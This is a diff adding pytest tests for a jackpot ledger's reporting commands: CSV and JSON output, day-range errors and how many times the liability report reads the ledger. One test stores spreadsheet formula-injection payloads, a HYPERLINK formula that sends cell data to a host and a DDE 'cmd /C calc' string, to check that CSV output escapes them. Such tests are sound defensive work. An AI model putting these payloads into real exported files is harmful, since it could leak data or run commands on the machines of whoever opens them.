@@ -254,3 +254,78 @@ def test_money_is_in_cents_and_dollars_exactly(ledger_at, capsys, fmt):  # noqa:
     (row,) = rows
     assert (row["meter_cents"], row["meter_dollars"]) == ("25007.5", "250.075")
     assert (row["liability_cents"], row["liability_dollars"]) == ("7.5", "0.075")
+
+
+def two_days(location) -> tuple[str, str]:
+    """A contribution on 2026-03-02 and one on 2026-03-04 (New York gaming days); before the
+    second, a Mystery correction with names and a reason a spreadsheet would run."""
+    clock = Clock("2026-03-02T15:00:00")
+    with Ledger(
+        location, parse_config(TIMED, "t.toml"), clock=clock, randbelow=fixed(70_000)
+    ) as led:
+        led.apply(contrib(TABLES[0], 1, 1))
+        clock.t = utc_ms("2026-03-04T15:00:00") / 1000
+        correct(led, "mystery", Fraction(-5), '=HYPERLINK("http://x/?"&A1,"ok")', "M. Jones",
+                "=1+2 cmd|' /C calc'!A0")  # fmt: skip
+        led.apply(contrib(TABLES[0], 2, 2))
+    return "2026-03-02", "2026-03-04"
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_text_and_meters_are_cents(ledger_at, capsys):  # noqa: F811
+    """Review finding 9 (CSV formula injection) and the minor one (a meter's old and new in
+    cents, not 50015/2): numbers stay numbers, a negative amount included."""
+    location = ledger_at()
+    two_days(location)
+    status, rows, err = report(capsys, "changes", "--ledger", location, "--pool", "mystery")
+    assert status == 0, err
+    (fix,) = [r for r in rows if r["kind"] == "correction"]
+    assert fix["by"] == '\'=HYPERLINK("http://x/?"&A1,"ok")'
+    assert fix["reason"] == "'=1+2 cmd|' /C calc'!A0" and fix["approved_by"] == "M. Jones"
+    assert (fix["amount_cents"], fix["amount_dollars"]) == ("-5", "-0.05")
+    assert (fix["old"], fix["new"]) == ("25007.5", "25002.5")  # a 7.5 cent contribution
+    status, rows, err = report(capsys, "changes", "--ledger", location, "--pool", "mystery",
+                               "--format", "json")  # fmt: skip
+    (fix,) = [r for r in rows if r["kind"] == "correction"]
+    assert fix["by"].startswith("=HYPERLINK") and fix["reason"].startswith("=1+2")  # JSON: as is
+
+
+def test_a_day_outside_the_ledger_is_refused_a_quiet_day_inside_is_empty(ledger_at, capsys):  # noqa: F811
+    """Review, minor: a day before the ledger's first row or after its last is exit 2 with one
+    line; a gaming day inside its range with no rows is a valid empty report."""
+    location = ledger_at()
+    first, last = two_days(location)
+    for kind in ("liability", "contributions", "awards", "changes"):
+        for argv in (["--day", "1999-01-01"], ["--from", "2026-03-05", "--to", "2026-03-09"]):
+            status, _, err = report(capsys, kind, "--ledger", location, *argv)
+            assert status == 2 and err.count("\n") == 1, (kind, argv, err)
+            assert (f"{' '.join(argv)} is outside the ledger: its gaming days run from {first} "
+                    f"to {last}") in err  # fmt: skip
+    status, rows, err = report(capsys, "contributions", "--ledger", location, "--day", "2026-03-03")
+    assert status == 0 and rows == [], err
+    status, rows, err = report(capsys, "liability", "--ledger", location, "--from", "2026-03-01",
+                               "--to", "2026-03-03")  # fmt: skip
+    assert status == 0 and {r["gaming_day"] for r in rows} == {"2026-03-02", "2026-03-03"}
+
+
+def test_the_liability_report_reads_the_ledger_once_whatever_the_days(ledger_at, monkeypatch):  # noqa: F811
+    """Review finding 8: the report is one ordered pass (a year of days costs the same
+    queries as one day), with the same closes as the day-by-day replay."""
+    from jackpot import reports
+
+    location = ledger_at()
+    two_days(location)
+    calls = []
+    rows = reports.Reader.rows
+    monkeypatch.setattr(reports.Reader, "rows", lambda self, *a: calls.append(a) or rows(self, *a))
+    with reports.open_reader(location) as reader:
+        calls.clear()
+        one = reports.liability(reader, "2026-03-02", "2026-03-02")
+        few = len(calls)
+        calls.clear()
+        year = reports.liability(reader, "2026-03-02", "2027-03-01")
+        assert len(calls) == few
+        assert year.rows[: len(one.rows)] == one.rows and len(year.rows) == 365 * 2
+        closes = {(r["gaming_day"], r["pool"]): r["meter_cents"] for r in year.rows}
+    assert (closes[("2026-03-02", "mystery")], closes[("2026-03-03", "mystery")]) == (
+        "25007.5", "25007.5")  # fmt: skip
+    assert closes[("2026-03-04", "mystery")] == closes[("2027-03-01", "mystery")] == "25010"
